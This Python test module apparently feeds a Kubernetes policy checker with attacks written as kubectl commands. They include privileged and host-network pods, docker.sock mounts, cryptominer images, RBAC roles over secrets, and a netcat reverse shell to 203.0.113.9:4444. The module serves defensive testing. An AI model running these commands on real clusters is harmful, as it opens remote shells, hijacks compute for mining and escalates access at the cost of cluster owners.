"""The attacks of tests/lib/attacks.py by kubectl's own commands."""

from __future__ import annotations

import json
from dataclasses import dataclass

from attacks import APP, ATTACKS, PULL, policy_rule
from mutants import object_of, pod_spec


def _manifest(kind: str, rule: str, label: str, where: str = "main") -> str:
    spelling = next(s for s in ATTACKS[rule] if s.label == label)
    return json.dumps(object_of(kind, "x", pod_spec(kind, spelling, where), {}))


def _harmless(kind: str) -> str:
    return json.dumps(object_of(kind, "x", pod_spec(kind, None, "main"), {}))


@dataclass(frozen=True)
class Typed:
    """What a person types: kubectl's arguments and what is sent on its input; the last one is the attack."""

    rule: str
    way: str
    commands: tuple[tuple[tuple[str, ...], str | None], ...]


def typed() -> list[Typed]:
    """The same attacks by kubectl's own commands."""
    mining, command, network = "crypto-mining-image", "dangerous-container-command", "host-network-pod"
    power, volume, service = "privileged-container", "sensitive-volume", "service-exposed"
    rule = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": "x", "namespace": "{ns}"},
    }
    read = {**rule, "rules": [policy_rule("", "secrets", "get,list")]}
    harmless = (("apply", "-f", "-"), _harmless("Deployment"))
    applied = (("apply", "-f", "-"), _manifest("Deployment", network, "hostNetwork"))
    patches = {
        "strategic": {
            "spec": {"template": {"spec": {"containers": [{"name": "tool", "securityContext": {"privileged": True}}]}}}
        },
        "merge": {"spec": {"template": {"spec": {"hostNetwork": True, "hostPID": True}}}},
        "json": [
            {"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}
        ],
    }
    pod = (("apply", "-f", "-"), _harmless("Pod"))
    overrides = json.dumps({"apiVersion": "v1", "spec": {"hostNetwork": True}})
    one: list[tuple[str, str, tuple[tuple[tuple[str, ...], str | None], ...]]] = [
        (network, "apply", (applied,)),
        (
            power,
            "apply --server-side",
            ((("apply", "--server-side", "-f", "-"), _manifest("DaemonSet", power, "privileged")),),
        ),
        (volume, "create -f", ((("create", "-f", "-"), _manifest("Job", volume, "/var/run/docker.sock")),)),
        (mining, "apply over", (harmless, (("apply", "-f", "-"), _manifest("Deployment", mining, "metal3d/xmrig")))),
        (
            mining,
            "replace",
            (harmless, (("replace", "-f", "-"), _manifest("Deployment", mining, "kannix/monero-miner"))),
        ),
        (
            mining,
            "replace --force",
            (pod, (("replace", "--force", "-f", "-"), _manifest("Pod", mining, "metal3d/xmrig"))),
        ),
        (mining, "set image", (harmless, (("set", "image", "deployment/x", "tool=docker.io/metal3d/xmrig:1"), None))),
        (
            power,
            "patch strategic",
            (harmless, (("patch", "deployment", "x", "-p", json.dumps(patches["strategic"])), None)),
        ),
        (
            network,
            "patch merge",
            (harmless, (("patch", "deployment", "x", "--type=merge", "-p", json.dumps(patches["merge"])), None)),
        ),
        (
            power,
            "patch json",
            (harmless, (("patch", "deployment", "x", "--type=json", "-p", json.dumps(patches["json"])), None)),
        ),
        (network, "run --overrides", ((("run", "x", "--image", APP, f"--overrides={overrides}"), None),)),
        (
            command,
            "run --",
            ((("run", "x", "--image", APP, "--", "nc", "203.0.113.9", "4444", "-e", "/bin/sh"), None),),
        ),
        (command, "run --command", ((("run", "x", "--image", APP, "--command", "--", "sh", "-c", PULL), None),)),
        (power, "run --privileged", ((("run", "x", "--image", APP, "--privileged"), None),)),
        (
            mining,
            "create cronjob",
            ((("create", "cronjob", "x", "--image=metal3d/xmrig", "--schedule=0 4 1 1 *"), None),),
        ),
        (command, "create job --", ((("create", "job", "x", f"--image={APP}", "--", "sh", "-c", PULL), None),)),
        (mining, "create deployment", ((("create", "deployment", "x", "--image=kannix/monero-miner"), None),)),
        (
            power,
            "debug --profile=sysadmin",
            (pod, (("debug", "x", f"--image={APP}", "--profile=sysadmin", "--attach=false"), None)),
        ),
        (volume, "debug node", ((("debug", "node/node-1", f"--image={APP}", "--attach=false"), None),)),
        (network, "debug node", ((("debug", "node/node-1", f"--image={APP}", "--attach=false"), None),)),
        (
            power,
            "debug --copy-to",
            (pod, (("debug", "x", f"--image={APP}", "--copy-to=y", "--profile=sysadmin", "--attach=false"), None)),
        ),
        (service, "expose", (harmless, (("expose", "deployment", "x", "--port=80", "--type=NodePort"), None))),
        (service, "create service nodeport", ((("create", "service", "nodeport", "x", "--tcp=80:8080"), None),)),
        (
            service,
            "create service loadbalancer",
            ((("create", "service", "loadbalancer", "x", "--tcp=80:8080"), None),),
        ),
        (
            "cluster-role-exec",
            "create clusterrole",
            ((("create", "clusterrole", "typed-exec", "--verb=create", "--resource=pods/exec"), None),),
        ),
        (
            "privileged-cluster-role",
            "create role",
            ((("create", "role", "x", "--verb=*", "--resource=secrets"), None),),
        ),
        ("privileged-cluster-role", "auth reconcile", ((("auth", "reconcile", "-f", "-"), json.dumps(read)),)),
        (
            power,
            "create --raw",
            ((("create", "--raw", "/api/v1/namespaces/{ns}/pods", "-f", "-"), _manifest("Pod", power, "privileged")),),
        ),
    ]
    return [Typed(*given) for given in one]
